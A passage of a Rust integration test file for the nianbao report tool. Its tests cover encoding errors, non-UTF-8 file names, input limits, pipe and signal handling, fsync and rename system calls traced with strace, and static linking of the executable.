        let o = nianbao(&["validate", dir.join(f).to_str().unwrap()]);
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{f}: {err}");
        assert!(
            err.contains(enc) && err.contains("请另存为 UTF-8"),
            "{f}: {err}"
        );
        assert!(!err.contains("检查路径"), "{f}: {err}");
    }
}

/// Item 16: non-UTF-8 file names work with every command.
#[test]
fn non_utf8_file_names_work_everywhere() {
    use std::os::unix::ffi::OsStrExt;
    let dir = scratch("non-utf8");
    let name = OsStr::from_bytes(b"r\xff\xfe.json");
    std::fs::copy(root().join("examples/demo-city-2024.json"), dir.join(name)).unwrap();
    let out_name = OsStr::from_bytes(b"\xffout.json");
    let s = OsStr::new;
    let cases: Vec<Vec<&OsStr>> = vec![
        vec![s("validate"), name],
        vec![s("validate"), name, s("--previous"), name],
        vec![s("layout"), name],
        vec![s("export"), name, s("--to"), s("xlsx")],
        vec![
            s("new"),
            s("--agency"),
            s("局"),
            s("--year"),
            s("2025"),
            s("--previous"),
            name,
            s("-o"),
            out_name,
        ],
        vec![
            s("aggregate"),
            name,
            s("--agency"),
            s("某区人民政府"),
            s("-o"),
            s("agg.json"),
        ],
        vec![s("collect"), name, s("-o"), s("c.xlsx")],
    ];
    for args in cases {
        let o = run_in(&dir, &args);
        assert!(
            o.status.code() == Some(0) || (args[0] == "aggregate" && o.status.code() == Some(1)),
            "{args:?}: {}",
            stderr(&o)
        );
    }
    assert!(dir.join(OsStr::from_bytes(b"r\xff\xfe.xlsx")).is_file());
    assert!(dir.join(out_name).is_file());
}

/// Item 16: re-export keeps the file's mode.
#[test]
fn re_export_keeps_a_private_file_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = scratch("mode");
    let args = [
        "export",
        "examples/demo-city-2024.json",
        "--to",
        "xlsx",
        "--out-dir",
        dir.to_str().unwrap(),
    ];
    assert_eq!(nianbao(&args).status.code(), Some(0));
    let f = dir.join("demo-city-2024.xlsx");
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o600)).unwrap();
    assert_eq!(nianbao(&args).status.code(), Some(0));
    assert_eq!(
        std::fs::metadata(&f).unwrap().permissions().mode() & 0o777,
        0o600
    );
}

/// Item 16: `new` never writes what its own reader refuses; `-o -` is standard output.
#[test]
fn new_refuses_reports_it_could_not_read_and_dash_is_stdout() {
    let dir = scratch("new");
    for (agency, year) in [
        ("", "2024"),
        ("  ", "2024"),
        ("局", "3000"),
        ("局", "1800"),
        ("a\u{7}b", "2024"),
    ] {
        let args = ["new", "--agency", agency, "--year", year, "-o", "r.json"];
        let os: Vec<&OsStr> = args.iter().map(OsStr::new).collect();
        let o = run_in(&dir, &os);
        assert_eq!(
            o.status.code(),
            Some(2),
            "{agency:?} {year}: {}",
            stderr(&o)
        );
        assert_eq!(names(&dir), Vec::<String>::new());
    }
    let os: Vec<&OsStr> = ["new", "--agency", "局", "--year", "2024", "-o", "-"]
        .iter()
        .map(OsStr::new)
        .collect();
    let o = run_in(&dir, &os);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stdout(&o).starts_with('{'));
    assert_eq!(names(&dir), Vec::<String>::new(), "no file named -");
}

/// Item 16: each free-table mistake is named with its rule.
#[test]
fn free_table_errors_say_which_rule() {
    let with_overview = |blocks: Value| {
        let mut v = demo();
        v["overview"] = blocks;
        v
    };
    let table = |t: Value| with_overview(json!([{ "table": t }]));
    let cases = [
        (
            "negative_header_rows",
            table(json!({"rows": [["a"]], "header_rows": -1})),
            &["overview[0].table.header_rows", "-1", "整数"][..],
        ),
        (
            "number_cell",
            table(json!({"rows": [["a", 37]]})),
            &["overview[0].table.rows[0][1]", "加引号"],
        ),
        (
            "unknown_key",
            table(json!({"rows": [["a"]], "header": 1})),
            &["overview[0].table.header", "未知的键"],
        ),
        (
            "unknown_block_key",
            with_overview(json!([{"tabel": {}}])),
            &["overview[0].tabel", "未知的键"],
        ),
        (
            "row_not_array",
            table(json!({"rows": ["a"]})),
            &["overview[0].table.rows[0]", "数组"],
        ),
        (
            "too_many_header_rows",
            table(json!({"rows": [["a"]], "header_rows": 2})),
            &["header_rows", "多于"],
        ),
    ];
    for (name, v, needles) in cases {
        let f = temp_json(&format!("ft-{name}.json"), &v);
        let o = nianbao(&["validate", &f]);
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{name}: {err}");
        for n in needles {
            assert!(err.contains(n), "{name}: {n:?} not in {err}");
        }
    }
}

/// Item 16: inputs and reports are capped, with the limit in the message.
#[test]
fn oversized_inputs_are_refused_quickly() {
    let start = std::time::Instant::now();
    let o = nianbao(&["validate", "/dev/zero"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("64 MiB"), "{}", stderr(&o));
    assert!(start.elapsed().as_secs() < 30);
    let mut v = demo();
    v["overview"] = json!(["字".repeat(nianbao::limits::MAX_PARAGRAPH_CHARS + 1)]);
    let f = temp_json("long-paragraph.json", &v);
    let o = nianbao(&["validate", &f]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("overview[0]") && stderr(&o).contains("20000"),
        "{}",
        stderr(&o)
    );
    let mut v = demo();
    v["other"] = json!(vec!["段"; nianbao::limits::MAX_BLOCKS_PER_SECTION + 1]);
    let f = temp_json("many-paragraphs.json", &v);
    let o = nianbao(&[
        "export",
        &f,
        "--to",
        "docx",
        "--out-dir",
        "target/test-out/cli/never",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("other:") && stderr(&o).contains("2000"),
        "{}",
        stderr(&o)
    );
    let deep = format!("{{\"overview\": {}{}}}", "[".repeat(40), "]".repeat(40));
    let f = temp_text("deep.json", &deep);
    let o = nianbao(&["validate", &f]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("嵌套"), "{}", stderr(&o));
}

/// Issue 9 item 4: a reader that closes the pipe early ends the run quietly with exit 0.
#[test]
fn a_closed_pipe_ends_quietly() {
    let dir = scratch("pipes");
    let example = root().join("examples/demo-city-2024.json");
    let many = vec![example.to_str().unwrap(); 300].join(" ");
    for (what, cmd) in [
        (
            "schema",
            "\"$0\" schema 2>err | head -c1 >/dev/null".to_string(),
        ),
        (
            "validate",
            format!("\"$0\" validate {many} 2>err | head -1 >/dev/null"),
        ),
        (
            "layout",
            format!(
                "\"$0\" layout {} 2>err | head -1 >/dev/null",
                example.display()
            ),
        ),
    ] {
        let o = bash(&format!("{cmd}; echo \"${{PIPESTATUS[0]}}\""), &dir);
        let err = std::fs::read_to_string(dir.join("err")).unwrap();
        assert_eq!(stdout(&o).trim(), "0", "{what}: {err}");
        assert!(err.is_empty(), "{what}: {err}");
    }
}

/// Item 14: more long-sheet rows than Excel allows (5,300 reports × 200 cells) continue on a
/// second sheet; nothing is cut and the exit code is 0. Heavy (about 90 s and 3 GB on two
/// cores), so run on demand: `cargo test --release --test cli -- --ignored`.
#[test]
#[ignore = "heavy: 5,300 reports, ~90 s, ~3 GB; run with --ignored"]
fn collect_past_excel_row_limit_continues_on_a_second_sheet() {
    use std::io::Read;
    let dir = scratch("row-limit");
    let input = dir.join("in");
    std::fs::create_dir_all(&input).unwrap();
    let text = std::fs::read(root().join("examples/demo-city-2024.json")).unwrap();
    let n = 5_300;
    for i in 0..n {
        std::fs::write(input.join(format!("r{i:04}.json")), &text).unwrap();
    }
    let o = Command::new(bin())
        .args(["collect", "in", "-o", "all.xlsx", "--csv-long", "long.csv"])
        .current_dir(&dir)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let csv_rows = std::fs::read_to_string(dir.join("long.csv"))
        .unwrap()
        .lines()
        .count()
        - 1;
    let file = std::fs::File::open(dir.join("all.xlsx")).unwrap();
    let mut zip = zip::ZipArchive::new(file).unwrap();
    let mut read = |name: &str| {
        let mut s = String::new();
        zip.by_name(name).unwrap().read_to_string(&mut s).unwrap();
        s
    };
    let wb = read("xl/workbook.xml");
    assert!(
        wb.contains("name=\"长表\"") && wb.contains("name=\"长表2\""),
        "{wb}"
    );
    let rows_of = |table: &str| -> usize {
        let at = table.find(" ref=\"").unwrap() + 6;
        let end = &table[at..at + table[at..].find('"').unwrap()];
        let last = end.split(':').nth(1).unwrap();
        last.trim_start_matches(|c: char| c.is_ascii_alphabetic())
            .parse::<usize>()
            .unwrap()
            - 1
    };
    let first = rows_of(&read("xl/tables/table1.xml"));
    let second = rows_of(&read("xl/tables/table2.xml"));
    assert_eq!(first, 1_048_575);
    assert_eq!(first + second, csv_rows);
    assert_eq!(csv_rows, n * 200);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Item 8: an interrupted run (SIGTERM, Ctrl-C) removes its temporary files and leaves no
/// partial output: the run is stopped while it stages PDFs; the inputs already committed (each
/// input is written on its own) stay, whole.
#[test]
fn an_interrupted_export_leaves_no_temporary() {
    let dir = scratch("interrupted");
    let input = dir.join("in");
    let out = dir.join("out");
    std::fs::create_dir_all(&input).unwrap();
    std::fs::create_dir_all(&out).unwrap();
    let text = std::fs::read(root().join("examples/potou-2023.json")).unwrap();
    let mut args = vec!["export".to_string()];
    for i in 0..150 {
        let f = input.join(format!("r{i:03}.json"));
        std::fs::write(&f, &text).unwrap();
        args.push(f.display().to_string());
    }
    args.extend(["--to", "pdf", "--quiet", "--out-dir"].map(String::from));
    args.push(out.display().to_string());
    for signal in ["TERM", "INT"] {
        let child = Command::new(bin())
            .args(&args)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let start = std::time::Instant::now();
        while names(&out).is_empty() {
            assert!(start.elapsed().as_secs() < 60, "no temporary appeared");
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        send_signal(&child, signal);
        let o = wait_or_kill(child, 60, "interrupted export");
        let code = if signal == "TERM" { 143 } else { 130 };
        assert_eq!(o.status.code(), Some(code), "{}", stderr(&o));
        // Each input is committed on its own: the PDFs already put in place stay, whole; no
        // temporary and no partial file is left.
        let left = names(&out);
        assert!(left.len() < 150, "{signal}: stopped before the end");
        for n in &left {
            assert!(!n.starts_with(".nianbao-"), "{signal}: temporary {n} left");
            let bytes = std::fs::read(out.join(n)).unwrap();
            assert!(
                bytes.starts_with(b"%PDF-") && bytes.trim_ascii_end().ends_with(b"%%EOF"),
                "{signal}: {n} is not a whole PDF"
            );
        }
        for n in left {
            std::fs::remove_file(out.join(n)).unwrap();
        }
    }
}

/// A signal that comes while a set of outputs is half-written ends the process only once the
/// set is done: here the PDF is already renamed into place and the HTML goes to a FIFO nobody
/// reads yet, so the set stays open; SIGTERM waits for it, and when the FIFO is read the run
/// ends with 143, the PDF whole and no temporary left. A signal that comes with no set open ends
/// the process at once, also with 128 + its number.
#[test]
fn a_signal_waits_for_the_outputs_being_written() {
    let dir = scratch("signal-window");
    let fifo = dir.join("potou-2023.html");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let mut child = Command::new(bin())
        .args([
            "export",
            "examples/potou-2023.json",
            "--to",
            "pdf,html",
            "--quiet",
            "--jobs",
            "1",
            "--out-dir",
        ])
        .arg(&dir)
        .current_dir(root())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The PDF appears under its own name once the set is committing (it is renamed first).
    wait_for_file(
        &dir.join("potou-2023.pdf"),
        "the PDF was never put in place",
    );
    send_signal(&child, "TERM");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(
        child.try_wait().unwrap().is_none(),
        "the signal ended the run while its outputs were being written"
    );
    let html = std::fs::read(&fifo).unwrap();
    assert!(
        html.starts_with(b"<!DOCTYPE html>"),
        "the HTML was written whole"
    );
    let o = wait_or_kill(child, 60, "export to a FIFO");
    assert_eq!(o.status.code(), Some(143), "{}", stderr(&o));
    let pdf = std::fs::read(dir.join("potou-2023.pdf")).unwrap();
    assert!(pdf.starts_with(b"%PDF-") && pdf.trim_ascii_end().ends_with(b"%%EOF"));
    assert_eq!(temporaries(&dir), Vec::<String>::new());

    // With no set open the signal ends the run at once, with 128 + its number: the first input
    // is written (which installs the handlers), then the run waits on standard input.
    let mut child = Command::new(bin())
        .args([
            "import",
            "tests/fixtures/import/pingtan_2023.html",
            "-",
            "--jobs",
            "1",
            "--out-dir",
        ])
        .arg(&dir)
        .current_dir(root())
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_file(
        &dir.join("pingtan_2023.json"),
        "the first input was never written",
    );
    std::thread::sleep(std::time::Duration::from_millis(100));
    assert!(
        child.try_wait().unwrap().is_none(),
        "the run did not wait for its standard input"
    );
    send_signal(&child, "INT");
    let o = wait_or_kill(child, 30, "import waiting on standard input");
    assert_eq!(o.status.code(), Some(130), "{}", stderr(&o));
}

/// Outputs are renamed into place without `fsync` by default (fast: two flushes cost as much
/// as writing an HTML report); `NIANBAO_FSYNC=1` flushes each file and its folder before the
/// run reports success. Counted with strace, so the test sees the system calls themselves.
#[test]
fn outputs_are_flushed_to_disk_only_when_asked() {
    let strace = common::require_tool("strace");
    let dir = scratch("fsync");
    let out = dir.join("seed.html");
    let seed = root().join("examples/potou-2023.json");
    let fsyncs = |value: Option<&str>| {
        let log = dir.join("strace.log");
        let mut c = Command::new(&strace);
        c.args(["-f", "-e", "trace=fsync,fdatasync", "-o"])
            .arg(&log)
            .arg(bin())
            .args(["export", "--to", "html", "--quiet", "-o"])
            .arg(&out)
            .arg(&seed);
        c.env_remove("NIANBAO_FSYNC");
        if let Some(v) = value {
            c.env("NIANBAO_FSYNC", v);
        }
        let o = c.output().unwrap();
        assert!(o.status.success(), "{}", stderr(&o));
        let text = std::fs::read_to_string(&log).unwrap();
        text.lines()
            .filter(|l| l.contains("fsync(") || l.contains("fdatasync("))
            .count()
    };
    assert_eq!(fsyncs(None), 0, "no flush by default");
    assert_eq!(fsyncs(Some("0")), 0, "NIANBAO_FSYNC=0 is off");
    // The file, then its folder after the rename.
    assert_eq!(
        fsyncs(Some("1")),
        2,
        "NIANBAO_FSYNC=1 flushes file and folder"
    );
    assert!(std::fs::read_to_string(&out)
        .unwrap()
        .starts_with("<!DOCTYPE html>"));
}

/// An output over an existing file is swapped with it in one step (`renameat2` with
/// `RENAME_EXCHANGE`), which leaves the old file under the temporary's name as the backup a later
/// failure would swap back: no hard link is made, and no rename over a file (which makes ext4
/// write the new file out at once). With `NIANBAO_FSYNC=1` outputs are renamed as before, and
/// a replaced file gets a hard-link backup only while a later output could still fail and take
/// it back. Counted with strace, so the test sees the system calls themselves.
#[test]
fn replaced_outputs_are_swapped_into_place_without_a_backup_link() {
    let strace = common::require_tool("strace");
    let dir = scratch("backups");
    let seed = root().join("examples/potou-2023.json");
    // (hard links, exchanges, plain renames)
    let calls = |to: &str, fsync: bool| {
        let log = dir.join("strace.log");
        let o = Command::new(&strace)
            .args([
                "-f",
                "-e",
                "trace=link,linkat,rename,renameat,renameat2",
                "-o",
            ])
            .arg(&log)
            .arg(bin())
            .args(["export", "--to", to, "--quiet", "--out-dir"])
            .arg(&dir)
            .arg(&seed)
            .env("NIANBAO_FSYNC", if fsync { "1" } else { "0" })
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", stderr(&o));
        let text = std::fs::read_to_string(&log).unwrap();
        let count = |f: &dyn Fn(&str) -> bool| text.lines().filter(|l| f(l)).count();
        (
            count(&|l| l.contains("link(") || l.contains("linkat(")),
            count(&|l| l.contains("RENAME_EXCHANGE") && l.ends_with("= 0")),
            count(&|l| l.contains("rename") && !l.contains("RENAME_EXCHANGE")),
        )
    };
    assert_eq!(calls("html", false), (0, 0, 1), "a new file is renamed");
    assert_eq!(calls("html", false), (0, 1, 0), "a replaced one swapped");
    assert_eq!(
        calls("docx,html", false),
        (0, 1, 1),
        "the DOCX new, the HTML replaced"
    );
    assert_eq!(calls("docx,html", false), (0, 2, 0), "both replaced");
    assert_eq!(
        calls("docx,html", true),
        (1, 0, 2),
        "flushed outputs are renamed; the first replaced is backed up"
    );
    assert_eq!(
        calls("html", true),
        (0, 0, 1),
        "the only output needs no backup"
    );
    for (name, head) in [
        ("potou-2023.html", &b"<!DOCTYPE html>"[..]),
        ("potou-2023.docx", b"PK"),
    ] {
        let bytes = std::fs::read(dir.join(name)).unwrap();
        assert!(bytes.starts_with(head), "{name} is whole");
    }
    assert_eq!(temporaries(&dir), Vec::<String>::new());
}

/// On x86_64 Linux the executable is linked statically and position-dependent
/// (.cargo/config.toml → .cargo/link-static): no program interpreter (`PT_INTERP`), so no
/// dynamic loader runs at each start, and an `ET_EXEC` file, so nothing is relocated either.
/// The link falls back to the shared C library when the C compiler has no static libc; that
/// fails here, naming what to install, instead of losing the start-up time unnoticed.
#[cfg(all(target_os = "linux", target_arch = "x86_64", target_env = "gnu"))]
#[test]
fn the_executable_is_linked_statically() {
    for archive in ["libc.a", "libgcc_eh.a"] {
        let out = std::process::Command::new("cc")
            .arg(format!("-print-file-name={archive}"))
            .output()
            .expect("cc (the linker's C compiler driver) runs");
        let path = String::from_utf8_lossy(&out.stdout).trim().to_string();
        assert!(
            std::path::Path::new(&path).is_file(),
            "{archive} not found by cc ({path:?}): install the static C library (Debian: libc6-dev; \
             Fedora: glibc-static) so that .cargo/link-static can link nianbao statically"
        );
    }
    let elf = std::fs::read(bin()).unwrap();
    assert_eq!(&elf[..4], b"\x7fELF");
    let u16_at = |o: usize| u16::from_le_bytes([elf[o], elf[o + 1]]);
    let u64_at = |o: usize| u64::from_le_bytes(elf[o..o + 8].try_into().unwrap());
    assert_eq!(
        u16_at(0x10),
        2,
        "e_type: ET_EXEC (2) expected, not a position-independent ET_DYN"
    );
    let (phoff, phentsize, phnum) = (u64_at(0x20) as usize, u16_at(0x36) as usize, u16_at(0x38));
    let types: Vec<u32> = (0..usize::from(phnum))
        .map(|i| {
            let o = phoff + i * phentsize;
            u32::from_le_bytes(elf[o..o + 4].try_into().unwrap())
        })
        .collect();
    const PT_DYNAMIC: u32 = 2;
    const PT_INTERP: u32 = 3;
    assert!(
        !types.contains(&PT_INTERP) && !types.contains(&PT_DYNAMIC),
        "program headers {types:?}: the executable needs the dynamic loader"
    );
}

/// Rust's symbol name without what varies between checkouts and builds: the `.llvm.<n>` suffix
/// of a promoted local and the hash (`17h<16 hex>E` → `E`), as .cargo/link-static matches them.
#[cfg(all(target_os = "linux", target_arch = "x86_64", target_env = "gnu"))]
fn symbol_stem(name: &str) -> String {
    let mut s = name;
    if let Some(i) = s.rfind(".llvm.") {
        if s[i + 6..].bytes().all(|b| b.is_ascii_digit()) {
            s = &s[..i];
        }
    }
    if let Some(i) = s.rfind("17h") {
        let hash = &s[i + 3..];
        if hash.len() == 17
            && hash.ends_with('E')
            && hash[..16].bytes().all(|b| b.is_ascii_hexdigit())
        {
            return format!("{}E", &s[..i]);
        }
    }
    s.to_string()
}

/// The code the quick commands run is laid out first (.cargo/link-static with
/// .cargo/text-order.txt): of the first 150 functions of this crate in the list, those whose
/// name names one function in the executable all lie in the first 1.5 MB of its 12 MB of code.
/// Scattered, as the linker places them otherwise, 108 of 123 lay further out, and the seed's
/// HTML export mapped ~80 windows of 64 KB of code instead of ~25. Fewer than 100 found means the
/// list is stale: rerun .cargo/text-order.sh.
#[cfg(all(target_os = "linux", target_arch = "x86_64", target_env = "gnu"))]
#[test]
fn the_code_of_the_quick_commands_comes_first() {
    let nm = common::require_tool("nm");
    let out = Command::new(nm)
        .args(["-n", "--defined-only"])
        .arg(bin())
        .output()
        .unwrap();
    assert!(out.status.success(), "nm failed");
    let mut code: std::collections::HashMap<String, Vec<u64>> = Default::default();
    let mut start = u64::MAX;
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        let mut f = line.split_whitespace();
        let (Some(addr), Some(kind), Some(name)) = (f.next(), f.next(), f.next()) else {
            continue;
        };
        if !matches!(kind, "t" | "T" | "W") {
            continue;
        }
        let addr = u64::from_str_radix(addr, 16).unwrap();
        start = start.min(addr);
        code.entry(symbol_stem(name)).or_default().push(addr);
    }
    let list = std::fs::read_to_string(root().join(".cargo/text-order.txt")).unwrap();
    let placed: Vec<(&str, u64)> = list
        .lines()
        .filter_map(|line| line.split(' ').next())
        .filter(|n| n.starts_with("_ZN7nianbao"))
        .take(150)
        .filter_map(|n| match code.get(&symbol_stem(n)).map(Vec::as_slice) {
            Some(&[addr]) => Some((n, addr - start)),
            _ => None,
        })
        .collect();
    assert!(
        placed.len() >= 100,
        "only {} of the first 150 listed functions are in the executable: rerun .cargo/text-order.sh",
        placed.len()
    );
    let far: Vec<_> = placed.iter().filter(|(_, off)| *off > 1_500_000).collect();
    assert!(
        far.is_empty(),
        "{} of {} listed functions lie beyond the first 1.5 MB of code, e.g. {:?}: \
         .cargo/link-static did not order the code (it needs rustc to link with LLD, the default \
         on x86_64 Linux since Rust 1.90, and nm from binutils)",
        far.len(),
        placed.len(),
        far.first()
    );
}
